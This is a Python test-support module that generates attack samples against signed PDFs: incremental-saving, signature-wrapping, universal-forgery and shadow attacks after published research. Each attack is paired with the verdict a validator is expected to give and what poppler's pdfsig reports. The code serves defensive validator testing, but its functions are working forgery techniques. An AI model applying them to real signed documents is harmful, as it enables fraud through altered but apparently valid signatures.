"""Attack samples against PDF signatures, each made from a validly signed original.

The attacks follow the published classes (Mladenov, Mainka, Meyer zu Selhausen, Grothe,
Schwenk: "1 Trillion Dollar Refund: How To Spoof PDF Signatures", CCS 2019; Mainka, Mladenov,
Rohlmann: "Shadow Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021) as far as
pyHanko's writer (or a few lines of byte surgery) can reproduce them:

* ISA, incremental saving: a new revision changes page content, adds an annotation, or changes
  a form field value after signing;
* SWA, signature wrapping: the ``/ByteRange`` gap no longer is the ``/Contents`` string, ranges
  overlap, or a new revision redefines the signature dictionary so the signed bytes describe an
  older revision than the one shown;
* USF, universal signature forgery: ``/Contents`` empty, zeroed, missing or garbage,
  ``/ByteRange`` missing or ``[0 0 0 0]``;
* shadow attacks: *hide* (an overlay prepared before signing is dropped afterwards, by a page
  update or by an xref-only update that frees it), *replace* (a form field prepared to look
  like text is refilled on a document certified with P=2), *hide-and-replace* (a whole shadow
  page tree is prepared and the catalogue is pointed at it after signing);
* plain cases: a flipped byte inside the signed range, untrusted/revoked/expired signers, and a
  second signature by a rogue key on a certified document.

Nothing here signs with ``signing.pdf``: originals are made with pyHanko directly.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject as N
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import MDPPerm, SigSeedSubFilter
from pyhanko.sign.timestamps import TimeStamper

__all__ = [
    "ATTACKS",
    "Attack",
    "Originals",
    "make_pdf",
    "sign_pdf",
    "signer_for",
    "tsa_at",
]

BODY = "Cong van so 123/VPCP: kinh phi 1.000.000 dong"
EVIL = "Cong van so 123/VPCP: kinh phi 9.000.000.000 dong"


# ----- a tiny PDF generator ------------------------------------------------------------------


def _font(w: PdfFileWriter) -> generic.IndirectObject:
    return w.add_object(
        generic.DictionaryObject(
            {
                N("/Type"): N("/Font"),
                N("/Subtype"): N("/Type1"),
                N("/BaseFont"): N("/Helvetica"),
                N("/Encoding"): N("/WinAnsiEncoding"),
            }
        )
    )


def _text(line: str, y: int = 720) -> bytes:
    safe = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return f"BT /F1 14 Tf 72 {y} Td ({safe}) Tj ET\n".encode("latin-1")


def _page(w: PdfFileWriter, font, contents) -> PageObject:
    res = generic.DictionaryObject({N("/Font"): generic.DictionaryObject({N("/F1"): font})})
    return PageObject(contents=contents, media_box=[0, 0, 595, 842], resources=res)


def make_pdf(
    text: str = BODY,
    *,
    form_field: bool = False,
    shadow_overlay: bool = False,
    shadow_pages: bool = False,
) -> bytes:
    """A one-page PDF (Helvetica text), optionally prepared for a shadow attack.

    ``shadow_overlay``: the page shows ``EVIL`` covered by a white box carrying ``text`` (the
    *hide* preparation). ``form_field``: a borderless, read-only-looking text field ``Amount``
    (the *replace* preparation). ``shadow_pages``: an unreferenced page tree showing ``EVIL``
    (the *hide-and-replace* preparation).
    """
    w = PdfFileWriter()
    font = _font(w)
    if shadow_overlay:
        hidden = w.add_object(generic.StreamObject(stream_data=_text(EVIL)))
        cover = w.add_object(
            generic.StreamObject(
                stream_data=b"q 1 1 1 rg 60 700 480 40 re f Q\n0 0 0 rg\n" + _text(text)
            )
        )
        contents: generic.PdfObject = generic.ArrayObject([hidden, cover])
    else:
        contents = w.add_object(generic.StreamObject(stream_data=_text(text)))
    page = _page(w, font, contents)
    w.insert_page(page)
    if form_field:
        _add_text_field(w, "Amount", "1.000.000 dong", font)
    if shadow_pages:
        shadow_stream = w.add_object(generic.StreamObject(stream_data=_text(EVIL)))
        shadow_page = _page(w, font, shadow_stream)
        shadow_tree = w.add_object(
            generic.DictionaryObject(
                {
                    N("/Type"): N("/Pages"),
                    N("/Kids"): generic.ArrayObject(),
                    N("/Count"): generic.NumberObject(1),
                }
            )
        )
        shadow_page[N("/Parent")] = shadow_tree
        shadow_tree.get_object()[N("/Kids")].append(w.add_object(shadow_page))
        # keep it reachable from nothing visible: a private catalogue entry only
        w.root[N("/LienthongShadow")] = shadow_tree
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _appearance(w, font, value: str) -> generic.IndirectObject:
    stream = generic.StreamObject(
        {
            N("/Type"): N("/XObject"),
            N("/Subtype"): N("/Form"),
            N("/BBox"): generic.ArrayObject([generic.NumberObject(x) for x in (0, 0, 300, 20)]),
            N("/Resources"): generic.DictionaryObject(
                {N("/Font"): generic.DictionaryObject({N("/F1"): font})}
            ),
        },
        stream_data=b"/Tx BMC BT /F1 12 Tf 2 5 Td (" + value.encode("latin-1") + b") Tj ET EMC",
    )
    return w.add_object(stream)


def _add_text_field(w: PdfFileWriter, name: str, value: str, font) -> None:
    page_ref = w.root["/Pages"]["/Kids"][0]
    field = generic.DictionaryObject(
        {
            N("/Type"): N("/Annot"),
            N("/Subtype"): N("/Widget"),
            N("/FT"): N("/Tx"),
            N("/T"): generic.TextStringObject(name),
            N("/V"): generic.TextStringObject(value),
            N("/Rect"): generic.ArrayObject([generic.NumberObject(x) for x in (72, 680, 372, 700)]),
            N("/F"): generic.NumberObject(4),
            N("/P"): page_ref,
            N("/DA"): generic.TextStringObject("/F1 12 Tf 0 g"),
            N("/AP"): generic.DictionaryObject({N("/N"): _appearance(w, font, value)}),
        }
    )
    ref = w.add_object(field)
    page = page_ref.get_object()
    page[N("/Annots")] = generic.ArrayObject([ref])
    w.root[N("/AcroForm")] = generic.DictionaryObject(
        {
            N("/Fields"): generic.ArrayObject([ref]),
            N("/DA"): generic.TextStringObject("/F1 12 Tf 0 g"),
            N("/DR"): generic.DictionaryObject(
                {N("/Font"): generic.DictionaryObject({N("/F1"): font})}
            ),
        }
    )


# ----- signing (pyHanko directly) ------------------------------------------------------------


def sign_pdf(
    data: bytes,
    signer: signers.Signer,
    *,
    field: str = "Sig1",
    timestamper: TimeStamper | None = None,
    certify: bool = False,
    docmdp: MDPPerm = MDPPerm.FILL_FORMS,
    md_algorithm: str = "sha256",
    validation_context=None,
) -> bytes:
    """Sign ``data`` (PAdES, incremental) with pyHanko; ``certify`` adds DocMDP ``docmdp``."""
    meta = signers.PdfSignatureMetadata(
        field_name=field,
        subfilter=SigSeedSubFilter.PADES,
        md_algorithm=md_algorithm,
        certify=certify,
        docmdp_permissions=docmdp,
        validation_context=validation_context,
        embed_validation_info=validation_context is not None,
    )
    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    out = signers.PdfSigner(meta, signer=signer, timestamper=timestamper).sign_pdf(writer)
    return out.getvalue()


# ----- byte surgery helpers ------------------------------------------------------------------


def _sig_dict_span(data: bytes, which: int = 0) -> tuple[int, int]:
    """(start, end) of the n-th ``/ByteRange [...]`` entry."""
    matches = list(re.finditer(rb"/ByteRange\s*\[([^\]]*)\]", data))
    m = matches[which]
    return m.start(), m.end()


def _byte_range(data: bytes, which: int = 0) -> list[int]:
    start, end = _sig_dict_span(data, which)
    inner = re.search(rb"\[([^\]]*)\]", data[start:end]).group(1)  # type: ignore[union-attr]
    return [int(x) for x in inner.split()]


def _set_byte_range(data: bytes, values: list[int], which: int = 0) -> bytes:
    start, end = _sig_dict_span(data, which)
    old = data[start:end]
    new = b"/ByteRange [" + b" ".join(str(v).encode() for v in values) + b"]"
    if len(new) > len(old):
        raise ValueError("new /ByteRange does not fit")
    return data[:start] + new.ljust(len(old), b" ") + data[end:]


def _contents_span(data: bytes, which: int = 0) -> tuple[int, int]:
    """(start, end) of the hex string (with its brackets) the n-th ByteRange leaves out."""
    br = _byte_range(data, which)
    return br[1], br[2]


def _replace_span(data: bytes, start: int, end: int, new: bytes) -> bytes:
    assert len(new) == end - start, "byte surgery must keep offsets"
    return data[:start] + new + data[end:]


def _rename_key(data: bytes, key: bytes, which: int = 0) -> bytes:
    """Rename ``key`` inside the n-th signature dictionary (same length: offsets stay)."""
    start, _ = _sig_dict_span(data, which)
    dict_start = data.rfind(b"<<", 0, start)
    pos = data.find(key, dict_start)
    assert pos >= 0
    return data[:pos] + key[:-1] + b"X" + data[pos + len(key) :]


# ----- incremental-update helpers ------------------------------------------------------------


def _incremental(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(data))
    change(w)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _first_page(w: IncrementalPdfFileWriter):
    ref = w.root["/Pages"]["/Kids"].raw_get(0)
    return ref, ref.get_object()


def isa_page_content(signed: bytes) -> bytes:
    """ISA: a new revision rewrites the page's content stream."""

    def change(w: IncrementalPdfFileWriter) -> None:
        _, page = _first_page(w)
        ref = page.raw_get("/Contents")
        stream = ref.get_object()
        stream._data = _text(EVIL)
        stream._encoded_data = None
        w.mark_update(ref)

    return _incremental(signed, change)


def isa_annotation(signed: bytes) -> bytes:
    """ISA: a new revision adds a FreeText annotation over the amount."""

    def change(w: IncrementalPdfFileWriter) -> None:
        page_ref, page = _first_page(w)
        annot = w.add_object(
            generic.DictionaryObject(
                {
                    N("/Type"): N("/Annot"),
                    N("/Subtype"): N("/FreeText"),
                    N("/Rect"): generic.ArrayObject(
                        [generic.NumberObject(x) for x in (60, 700, 540, 740)]
                    ),
                    N("/Contents"): generic.TextStringObject(EVIL),
                    N("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
                    N("/P"): page_ref,
                }
            )
        )
        annots = page.get("/Annots")
        if annots is None:
            page[N("/Annots")] = generic.ArrayObject([annot])
        else:
            annots.get_object().append(annot)
            if isinstance(page.raw_get("/Annots"), generic.IndirectObject):
                w.mark_update(page.raw_get("/Annots"))
        w.mark_update(page_ref)

    return _incremental(signed, change)


def _refill_amount(w: IncrementalPdfFileWriter, value: str) -> None:
    acro = w.root["/AcroForm"]
    for ref in acro["/Fields"]:
        fld = ref.get_object()
        if fld.get("/T") == "Amount":
            fld[N("/V")] = generic.TextStringObject(value)
            font = w.root["/AcroForm"]["/DR"]["/Font"].raw_get("/F1")
            fld[N("/AP")] = generic.DictionaryObject({N("/N"): _appearance(w, font, value)})
            w.mark_update(ref)
            return
    raise AssertionError("no Amount field")


def isa_form_field(signed_with_field: bytes) -> bytes:
    """ISA: a new revision changes the value of a text field after an approval signature."""
    return _incremental(signed_with_field, lambda w: _refill_amount(w, "9.000.000.000 dong"))


def shadow_replace(certified_with_field: bytes) -> bytes:
    """Shadow *replace* via form: refill a prepared field on a P=2 certified document."""
    return _incremental(certified_with_field, lambda w: _refill_amount(w, "9.000.000.000 dong"))


def shadow_hide(signed_overlay: bytes) -> bytes:
    """Shadow *hide*: a page update drops the white overlay prepared before signing."""

    def change(w: IncrementalPdfFileWriter) -> None:
        page_ref, page = _first_page(w)
        contents = page["/Contents"]
        page[N("/Contents")] = generic.ArrayObject([contents.raw_get(0)])
        w.mark_update(page_ref)

    return _incremental(signed_overlay, change)


def shadow_hide_xref(signed_overlay: bytes) -> bytes:
    """Shadow *hide* through the xref alone: a new section frees the overlay object.

    No object is written in the update, only a cross-reference section and a trailer, as in
    the paper's "hide via xref" variant.
    """
    reader = PdfFileReader(io.BytesIO(signed_overlay))
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    cover_ref = page["/Contents"].raw_get(1).reference
    trailer = reader.trailer_view
    prev = reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1)
    size = int(trailer["/Size"])
    root = trailer.raw_get("/Root").reference
    ident = trailer.get("/ID")
    body = bytearray(signed_overlay)
    if not body.endswith(b"\n"):
        body += b"\n"
    xref_at = len(body)
    gen = (cover_ref.generation + 1) % 65536
    section = (
        b"xref\n0 1\n0000000000 65535 f \n"
        + f"{cover_ref.idnum} 1\n0000000000 {gen:05d} f \n".encode()
    )
    id_part = b""
    if ident is not None:
        id_part = b"/ID [<" + bytes(ident[0].original_bytes).hex().encode() + b"> <"
        id_part += bytes(ident[1].original_bytes).hex().encode() + b">]"
    trailer_bytes = (
        f"trailer\n<< /Size {size} /Root {root.idnum} {root.generation} R /Prev {prev} ".encode()
        + id_part
        + b" >>\n"
    )
    body += section + trailer_bytes + f"startxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(body)


def shadow_hide_and_replace(signed_shadow: bytes) -> bytes:
    """Shadow *hide-and-replace*: only the catalogue changes, to show the prepared page tree."""

    def change(w: IncrementalPdfFileWriter) -> None:
        shadow = w.root.raw_get("/LienthongShadow")
        w.root[N("/Pages")] = shadow
        w.update_root()

    return _incremental(signed_shadow, change)


def swa_gap(signed: bytes) -> bytes:
    """SWA: the second signed range is moved so the gap is wider than ``/Contents``."""
    br = _byte_range(signed)
    return _set_byte_range(signed, [0, br[1], br[2] + 64, br[3] - 64])


def swa_overlap(signed: bytes) -> bytes:
    """SWA: the two ranges overlap."""
    br = _byte_range(signed)
    return _set_byte_range(signed, [0, br[1], br[1] - 40, br[3]])


def swa_not_whole(signed: bytes) -> bytes:
    """SWA: the ranges stop short of the end of the file (a signed tail is left out)."""
    br = _byte_range(signed)
    return _set_byte_range(signed, [0, br[1], br[2], br[3] - 200])


def swa_moved_dictionary(signed: bytes) -> bytes:
    """SWA: a new revision redefines the signature dictionary (same object, same values) and
    replaces the page content, so the signed bytes describe an older revision than the one
    the signature object now belongs to."""
    reader = PdfFileReader(io.BytesIO(signed))
    sig_ref = reader.root["/AcroForm"]["/Fields"][0].get_object().raw_get("/V").reference

    def change(w: IncrementalPdfFileWriter) -> None:
        _, page = _first_page(w)
        stream = page.raw_get("/Contents").get_object()
        stream._data = _text(EVIL)
        stream._encoded_data = None
        w.mark_update(page.raw_get("/Contents"))
        w.mark_update(generic.IndirectObject(sig_ref.idnum, sig_ref.generation, w))

    return _incremental(signed, change)


def usf_empty_contents(signed: bytes) -> bytes:
    """USF: ``/Contents <>`` (the rest of the gap blanked)."""
    start, end = _contents_span(signed)
    return _replace_span(signed, start, end, b"<>" + b" " * (end - start - 2))


def usf_zero_contents(signed: bytes) -> bytes:
    """USF: ``/Contents`` all zeros."""
    start, end = _contents_span(signed)
    return _replace_span(signed, start, end, b"<" + b"0" * (end - start - 2) + b">")


def usf_garbage_cms(signed: bytes) -> bytes:
    """USF: ``/Contents`` is well-formed hex but not CMS."""
    start, end = _contents_span(signed)
    filler = (b"DEADBEEF" * ((end - start) // 8 + 1))[: end - start - 2]
    return _replace_span(signed, start, end, b"<" + filler + b">")


def usf_no_contents(signed: bytes) -> bytes:
    """USF: the ``/Contents`` key is gone (renamed in place)."""
    start, _ = _sig_dict_span(signed)
    dict_start = signed.rfind(b"<<", 0, start)
    dict_end = signed.find(b">>", _contents_span(signed)[1])
    segment = signed[dict_start:dict_end].replace(b"/Contents", b"/ContentX", 1)
    return signed[:dict_start] + segment + signed[dict_end:]


def usf_no_byte_range(signed: bytes) -> bytes:
    """USF: the ``/ByteRange`` key is gone (renamed in place)."""
    start, end = _sig_dict_span(signed)
    return signed[:start] + b"/ByteRangX" + signed[start + 10 :]


def usf_zero_byte_range(signed: bytes) -> bytes:
    """USF: ``/ByteRange [0 0 0 0]``."""
    return _set_byte_range(signed, [0, 0, 0, 0])


def flip_signed_byte(signed: bytes) -> bytes:
    """A byte inside the signed range changes (the amount in the content stream)."""
    pos = signed.find(b"1.000.000")
    assert 0 < pos < _byte_range(signed)[1]
    return signed[:pos] + b"7" + signed[pos + 1 :]


# ----- the catalogue -------------------------------------------------------------------------


@dataclass(frozen=True)
class Originals:
    """Validly signed documents the attacks start from (built by the test fixtures)."""

    signed: bytes  # approval signature by the clerk, with a signature timestamp
    signed_field: bytes  # same, document prepared with a text field
    certified_field: bytes  # certification (DocMDP P=2) by the clerk, text field prepared
    signed_overlay: bytes  # prepared with a hidden line under a white overlay
    signed_shadow: bytes  # prepared with an unreferenced shadow page tree


@dataclass(frozen=True)
class Attack:
    """One attack: how to make it, what we must answer, what pdfsig is expected to say."""

    name: str
    family: str
    make: Callable[[Originals], bytes]
    indication: str  # expected for the attacked signature
    sub_indications: tuple[str, ...]  # any of these
    pdfsig: str  # what poppler's pdfsig reports (documented in the test)
    note: str = ""


def _a(name, family, make, indication, subs, pdfsig, note=""):
    return Attack(name, family, make, indication, tuple(subs), pdfsig, note)


FAILED, INDET = "TOTAL-FAILED", "INDETERMINATE"
ATTACKS: list[Attack] = [
    _a(
        "isa-page-content",
        "ISA",
        lambda o: isa_page_content(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "valid",
        "pdfsig checks the ByteRange digest only",
    ),
    _a(
        "isa-annotation",
        "ISA",
        lambda o: isa_annotation(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "valid",
    ),
    _a(
        "isa-form-field",
        "ISA",
        lambda o: isa_form_field(o.signed_field),
        INDET,
        ["SIG_CONSTRAINTS_FAILURE"],
        "valid",
        "form filling after an approval signature: allowed by ISO 32000, not by the hub policy",
    ),
    _a(
        "swa-gap",
        "SWA",
        lambda o: swa_gap(o.signed),
        FAILED,
        ["FORMAT_FAILURE", "HASH_FAILURE"],
        "invalid",
    ),
    _a(
        "swa-overlap",
        "SWA",
        lambda o: swa_overlap(o.signed),
        FAILED,
        ["FORMAT_FAILURE", "HASH_FAILURE"],
        "invalid",
    ),
    _a(
        "swa-not-whole",
        "SWA",
        lambda o: swa_not_whole(o.signed),
        FAILED,
        ["HASH_FAILURE", "FORMAT_FAILURE"],
        "invalid",
        "the rewritten /ByteRange sits in the signed bytes: digest mismatch, coverage unclear",
    ),
    _a(
        "swa-moved-dictionary",
        "SWA",
        lambda o: swa_moved_dictionary(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "valid",
    ),
    _a(
        "usf-empty-contents",
        "USF",
        lambda o: usf_empty_contents(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "invalid",
    ),
    _a(
        "usf-zero-contents",
        "USF",
        lambda o: usf_zero_contents(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "invalid",
    ),
    _a(
        "usf-garbage-cms",
        "USF",
        lambda o: usf_garbage_cms(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "invalid",
    ),
    _a(
        "usf-no-contents",
        "USF",
        lambda o: usf_no_contents(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "invalid",
    ),
    _a(
        "usf-no-byte-range",
        "USF",
        lambda o: usf_no_byte_range(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "invalid",
    ),
    _a(
        "usf-zero-byte-range",
        "USF",
        lambda o: usf_zero_byte_range(o.signed),
        FAILED,
        ["FORMAT_FAILURE"],
        "invalid",
    ),
    _a(
        "shadow-hide",
        "shadow",
        lambda o: shadow_hide(o.signed_overlay),
        FAILED,
        ["FORMAT_FAILURE"],
        "valid",
    ),
    _a(
        "shadow-hide-xref",
        "shadow",
        lambda o: shadow_hide_xref(o.signed_overlay),
        FAILED,
        ["FORMAT_FAILURE"],
        "valid",
    ),
    _a(
        "shadow-replace-form",
        "shadow",
        lambda o: shadow_replace(o.certified_field),
        INDET,
        ["SIG_CONSTRAINTS_FAILURE"],
        "valid",
        "P=2 permits form filling; flagged by the hub policy",
    ),
    _a(
        "shadow-hide-and-replace",
        "shadow",
        lambda o: shadow_hide_and_replace(o.signed_shadow),
        FAILED,
        ["FORMAT_FAILURE"],
        "valid",
    ),
    _a(
        "flipped-byte",
        "integrity",
        lambda o: flip_signed_byte(o.signed),
        FAILED,
        ["HASH_FAILURE"],
        "digest-mismatch",
    ),
]


# ----- helpers for the tests --------------------------------------------------------------


def signer_for(identity, *, pss: bool = True) -> signers.SimpleSigner:
    """A pyHanko signer from a test PKI identity (its PKCS#12 file)."""
    from tests.support.pki import P12_PASSWORD

    signer = signers.SimpleSigner.load_pkcs12(identity.p12, passphrase=P12_PASSWORD, prefer_pss=pss)
    assert signer is not None
    return signer


def tsa_at(pki, when) -> TimeStamper:
    """A time-stamper with the test TSA's key whose clock says ``when`` (past-validation tests)."""
    from asn1crypto import keys as asn1_keys
    from asn1crypto import x509 as asn1_x509
    from cryptography.hazmat.primitives import serialization
    from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    tsa = pki.identity("tsa")

    def asn1(cert):
        return asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))

    key = asn1_keys.PrivateKeyInfo.load(
        tsa.key.private_bytes(
            serialization.Encoding.DER,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    store = SimpleCertificateStore.from_certs([asn1(tsa.cert), asn1(pki.issuing.cert)])
    return DummyTimeStamper(asn1(tsa.cert), key, certs_to_embed=store, fixed_dt=when)
